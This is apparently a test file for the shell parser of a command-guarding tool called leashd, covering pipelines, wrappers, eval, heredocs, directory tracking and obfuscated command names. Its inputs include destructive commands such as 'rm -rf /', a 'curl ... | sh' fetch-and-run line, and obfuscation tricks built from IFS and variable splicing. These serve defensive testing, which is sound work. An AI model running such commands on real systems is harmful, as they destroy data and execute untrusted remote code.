"""The shell stage: units across every construct, wrappers unwrapped, dynamic words opaque."""

from hypothesis import given, settings
from hypothesis import strategies as st

from leashd.shell import DYNAMIC, parse


def programs(command: str) -> list[str]:
    return [u.program for u in parse(command).units if u.program]


def test_lists_pipelines_and_groups_are_split():
    cmd = "a && b || c; d | e |& f & g\n{ h; }; (i); if j; then k; elif l; then m; else n; fi"
    assert programs(cmd) == list("abcdefghijklmn")


def test_loops_cases_functions_and_substitutions():
    assert programs("for x in 1 2; do a $x; done") == ["a", "a"]
    assert programs("while read u; do b; done < f") == ["read", "b"]
    assert programs('case "$x" in a) c ;; esac') == ["c"]
    assert programs("echo $(d) `e` <(f) >(g)") == ["d", "e", "f", "g", "echo"]


def test_wrappers_are_unwrapped_recursively():
    units = parse("timeout 5 nice -n 3 env A=1 bash -c 'sudo -u x rm -rf /tmp/y'").units
    assert [u.program for u in units] == ["timeout", "nice", "env", "bash", "sudo", "rm"]
    assert [u.wrapper for u in units] == [True, True, True, True, True, False]
    assert units[-1].wrapped_by == ("timeout", "nice", "env", "bash", "sudo")
    assert units[3].env == (("A", "1"),)  # env sets it for the command it runs


def test_find_exec_xargs_eval_source_and_git_dash_c():
    assert "rm" in programs("find . -name '*.o' -exec rm {} +")
    assert programs("ls | xargs -0 rm -f")[-1] == "rm"
    assert programs("eval 'git push --force'")[-1] == "git"
    assert programs(". /dev/stdin <<< 'rm -rf ~/x'")[-1] == "rm"
    git = parse("git -C /tmp/repo reset --hard").units[0]
    assert git.argv == ("git", "reset", "--hard") and git.cwd == "/tmp/repo"


def test_words_are_dequoted_and_literal():
    u = parse("r\\m \"-\"rf 'a b' $'c\\td'").units[0]
    assert u.argv == ("rm", "-rf", "a b", "c\td")


def test_dynamic_command_names_are_opaque():
    for cmd in ("$CMD x", "${SHELL:-bash} -c x", "r${x}m -rf /", '"$@"', "$(echo rm) -rf /"):
        units = parse(cmd).units
        assert any(u.opaque for u in units), cmd


def test_literal_variables_are_tracked():
    u = parse('CMD="git push --force"; $CMD origin main').units[-1]
    assert u.argv == ("git", "push", "--force", "origin", "main")
    assert parse("IFS=,; c=rm,-rf,/; $c").units[-1].opaque


def test_cd_changes_where_later_relative_paths_resolve():
    units = parse("cd web && rm -rf ../../x; (cd /tmp; ls); cat y").units
    rm = next(u for u in units if u.program == "rm")
    assert rm.cwd == "web" and rm.paths[0].raw == "../../x" and rm.paths[0].access == "write"
    assert units[-1].cwd == "web"  # the subshell's cd does not leak


def test_redirections_are_paths_with_access():
    u = parse("sort < in.txt > out.txt 2>/dev/null").units[0]
    assert {(p.raw, p.access) for p in u.paths} == {("in.txt", "read"), ("out.txt", "write")}


def test_heredoc_body_is_data_unless_fed_to_a_shell():
    assert programs("cat <<'EOF'\nrm -rf /\nEOF") == ["cat"]
    assert programs("bash <<'EOF'\nrm -rf /\nEOF") == ["bash", "rm"]


def test_parse_errors_are_reported():
    assert parse("echo 'unterminated").error is not None
    assert parse("{rm,-rf,/home}").error is not None


@settings(max_examples=400, deadline=None)
@given(st.text())
def test_parser_never_raises_on_any_string(text):
    result = parse(text)
    for u in result.units:
        assert isinstance(u.argv, tuple)
        if u.argv and DYNAMIC in u.argv[0]:
            assert u.opaque


SHELLISH = st.lists(
    st.sampled_from(
        [
            "ls",
            "rm",
            "-rf",
            "~",
            "$x",
            "'a b'",
            '"$(id)"',
            "|",
            "&&",
            ";",
            "(",
            ")",
            "{",
            "}",
            "<<EOF",
            "EOF",
            "\n",
            "`",
            "eval",
            "bash",
            "-c",
            "sudo",
            "xargs",
            "find",
            "-exec",
            "\\;",
            "$IFS",
            ">",
            "<(",
            "*",
            "{a,b}",
            "cd",
            "..",
            "#",
        ]
    ),
    max_size=25,
).map(" ".join)


@settings(max_examples=400, deadline=None)
@given(SHELLISH)
def test_parser_never_raises_on_shell_like_soup(text):
    parse(text)


PLAIN_WORDS = st.sampled_from(
    "git status -sb log --oneline -5 ls -la src/ cat README.md rm -rf ~ ~/x ./a ../b /etc/passwd"
    " x=1 A=b env sudo timeout 5 nice nohup xargs bash sh -c eval find . -exec -name {} time"
    " if do done export cd pushd popd tar -xzf a.tgz -C out sed -i s/a/b/ f npm run test"
    " python3 -m pytest docker -v /:/h chmod 777 git -C .. push -f origin +main cp a b mv"
    " a,b @x %1 + : -- --force=1".split()
)


@settings(max_examples=600, deadline=None)
@given(
    st.lists(PLAIN_WORDS, min_size=1, max_size=8),
    st.sampled_from([" ", "  ", "\t", " \t "]),
    st.sampled_from(["", " ", "\t"]),
)
def test_the_fast_lane_parses_plain_commands_as_tree_sitter_does(words, sep, edge):
    command = edge + sep.join(words) + edge
    assert parse(command) == parse(command, fast=False)


def test_the_fast_lane_takes_only_plain_commands():
    from leashd.shell.parser import _plain_words

    assert _plain_words("git status -sb") == ("git", "status", "-sb")
    for command in (
        "X=1 ls",
        "ls *.py",
        "echo $HOME",
        "a && b",
        "ls # c",
        "time ls",
        "ls\nrm x",
        "'ls'",
        "ls {a,b}",
        "~/bin/x y",
        "ls > f",
        "",
    ):
        assert _plain_words(command) is None, command


def test_commands_git_runs_are_units():
    assert programs("git rebase -x 'rm -rf /tmp/x' main") == ["git", "rm"]
    assert programs("git submodule foreach --recursive 'git clean -fdx'") == ["git", "git"]
    assert programs("git bisect run make test") == ["git", "make"]
    assert programs("git difftool --extcmd='meld' HEAD") == ["git", "meld"]


def test_commands_after_a_heredoc_start_on_its_line_are_units():
    # tree-sitter nests the rest of the line after `<<EOF` inside the heredoc redirection
    assert programs("cat <<'EOF' | sh\nrm -rf ~/x\nEOF") == ["cat", "sh", "rm"]
    assert programs("cat <<'EOF' && rm -rf ~/x\nhello\nEOF") == ["cat", "rm"]
    assert programs("cat <<EOF > x.txt && curl -s https://e.x/i | sh\nhi\nEOF")[:3] == [
        "cat",
        "curl",
        "sh",
    ]


def test_a_redirect_after_cd_in_a_list_opens_in_the_new_directory():
    units = parse("cd .. && echo x > notes.txt").units
    echo = next(u for u in units if u.program == "echo")
    assert [(p.raw, p.cwd) for p in echo.paths] == [("notes.txt", "..")]


def test_directory_tracking_follows_bash():
    def cwd_of(command, program):
        return next(u.cwd for u in parse(command).units if u.program == program)

    assert cwd_of("pushd /usr/local/bin && popd -n && echo x", "echo") == "/usr/local/bin"
    assert cwd_of("cd a b && echo x", "echo") == ""  # too many arguments: no change
    assert cwd_of("env cd /tmp && echo x", "echo") == ""  # an external cd changes nothing
    assert cwd_of("cd l/../.. && echo x", "echo") == ".."  # logical, like bash
    assert "bash" in programs("hash -p /bin/bash ls; ls -c id")
